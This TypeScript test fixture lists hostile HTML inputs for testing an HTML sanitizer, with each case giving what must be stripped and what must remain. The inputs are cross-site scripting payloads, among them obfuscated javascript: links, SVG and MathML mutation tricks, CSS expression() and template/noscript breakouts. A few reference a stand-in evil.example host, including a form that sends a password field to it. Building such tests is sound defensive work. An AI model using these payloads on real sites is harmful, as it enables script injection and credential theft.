/** Hostile HTML the field cleaner is tried against: by the hostile-input tests, and by the heading tests. */

/** One input, what must disappear from it, and what must survive. */
export interface HostileCase {
  name: string;
  input: string;
  gone: RegExp;
  kept: string;
}

export const HOSTILE_HTML: HostileCase[] = [
  {
    name: 'a script element',
    input: '<p>Safe</p><script>alert(1)</script>',
    gone: /script|alert/i,
    kept: '<p>Safe</p>',
  },
  {
    name: 'a script with odd casing',
    input: '<p>Safe</p><ScRiPt>alert(1)</sCrIpT>',
    gone: /script|alert/i,
    kept: '<p>Safe</p>',
  },
  { name: 'an unclosed script', input: '<p>Safe</p><script>alert(1)', gone: /script|alert/i, kept: '<p>Safe</p>' },
  {
    name: 'event handler attributes',
    input: '<p onclick="alert(1)" onmouseover=alert(2)>Safe <b onload="x()">bold</b></p>',
    gone: /on\w+=|alert/i,
    kept: '<p>Safe <b>bold</b></p>',
  },
  {
    name: 'an img onerror handler',
    input: '<img src="/cms/files/a.png" onerror="alert(1)" alt="A">',
    gone: /onerror|alert/i,
    kept: 'alt="A"',
  },
  {
    name: 'a javascript: link',
    input: '<a href="javascript:alert(1)">Read</a>',
    gone: /javascript|href/i,
    kept: 'Read</a>',
  },
  {
    name: 'an entity-obfuscated javascript: link',
    input: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">Read</a>',
    gone: /javascript|href|alert/i,
    kept: 'Read</a>',
  },
  {
    name: 'a hex-entity colon in a javascript: link',
    input: '<a href="javascript&#x3A;alert(1)">Read</a>',
    gone: /javascript|href/i,
    kept: 'Read</a>',
  },
  {
    name: 'a whitespace-obfuscated javascript: link',
    input:
      '<a href="java\tscript:alert(1)">Tab</a><a href=" \njavascript:alert(2)">Newline</a><a href="jav&#x09;ascript:alert(3)">Entity tab</a>',
    gone: /javascript|java|href/i,
    kept: 'Entity tab</a>',
  },
  { name: 'a vbscript: link', input: '<a href="vbscript:msgbox(1)">Old</a>', gone: /vbscript|href/i, kept: 'Old</a>' },
  {
    name: 'a data:text/html link',
    input: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Data</a>',
    gone: /data:|href/i,
    kept: 'Data</a>',
  },
  {
    name: 'a data:text/html image',
    input: '<p>Pic</p><img src="data:text/html,<script>alert(1)</script>">',
    gone: /<img|data:|script/i,
    kept: '<p>Pic</p>',
  },
  {
    name: 'an SVG with script and a javascript: link',
    input:
      '<p>Logo</p><svg onload="alert(1)"><script>alert(2)</script><a xlink:href="javascript:alert(3)"><text>x</text></a></svg>',
    gone: /svg|script|alert|xlink/i,
    kept: '<p>Logo</p>',
  },
  {
    name: 'a MathML mutation trick',
    input:
      '<p>Formula</p><math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    gone: /math|onerror|alert|style/i,
    kept: '<p>Formula</p>',
  },
  {
    name: 'an iframe',
    input: '<p>Video</p><iframe src="https://evil.example/" srcdoc="<script>alert(1)</script>"></iframe>',
    gone: /iframe|evil|srcdoc|script/i,
    kept: '<p>Video</p>',
  },
  {
    name: 'a form with inputs',
    input:
      '<p>Contact</p><form action="https://evil.example/steal"><input name="pw" type="password"><button formaction="javascript:alert(1)">Go</button></form>',
    gone: /form|input|evil|javascript/i,
    kept: '<p>Contact</p>',
  },
  {
    name: 'a style element',
    input: '<style>body{background:url(javascript:alert(1))}</style><p>Styled</p>',
    gone: /<style|javascript|background/i,
    kept: '<p>Styled</p>',
  },
  {
    name: 'a CSS expression() in a style attribute',
    input: '<p style="width: expression(alert(1))">Old IE</p>',
    gone: /style|expression|alert/i,
    kept: '<p>Old IE</p>',
  },
  {
    name: 'a url(javascript:) in a style attribute',
    input: '<span style="background-image:url(javascript:alert(1))">Span</span>',
    gone: /style|javascript|url\(/i,
    kept: '<span>Span</span>',
  },
  {
    name: 'malformed and unclosed markup',
    input: '<p>One <b>two <i>three</p><p>Four<<script>alert(1)//<</script>',
    gone: /<script|alert\(1\)<\/|<</i,
    kept: '<p>One <b>two <i>three</i></b></p>',
  },
  {
    name: 'a base element',
    input: '<base href="https://evil.example/"><p>Relative</p>',
    gone: /base|evil/i,
    kept: '<p>Relative</p>',
  },
  {
    name: 'a meta refresh',
    input: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><p>Meta</p>',
    gone: /<meta|refresh|javascript/i,
    kept: '<p>Meta</p>',
  },
  {
    name: 'srcset abuse',
    input:
      '<img src="/cms/files/a.png" srcset="javascript:alert(1) 1x, https://evil.example/track.png 2x" alt="Srcset">',
    gone: /srcset=|javascript|evil/i,
    kept: 'src="/cms/files/a.png"',
  },
  {
    name: 'object and embed',
    input: '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y.swf"><p>Plugin</p>',
    gone: /object|embed|evil/i,
    kept: '<p>Plugin</p>',
  },
  {
    name: 'a protocol-relative link',
    input: '<a href="//evil.example/phish">Login</a>',
    gone: /evil|href/i,
    kept: 'Login</a>',
  },
  {
    name: 'a link target other than _blank',
    input: '<a href="https://example.com/" target="_parent">Out</a>',
    gone: /_parent/i,
    kept: 'href="https://example.com/"',
  },
  {
    name: 'template and noscript content',
    input:
      '<template><img src=x onerror=alert(1)></template><noscript><p title="</noscript><img src=x onerror=alert(2)>"></p></noscript><p>After</p>',
    gone: /template|noscript|onerror|alert/i,
    kept: '<p>After</p>',
  },
  {
    name: 'classes and ids that could hook page scripts or styles',
    input: '<p class="admin-only" id="login">Plain</p>',
    gone: /class|id=/i,
    kept: '<p>Plain</p>',
  },
];
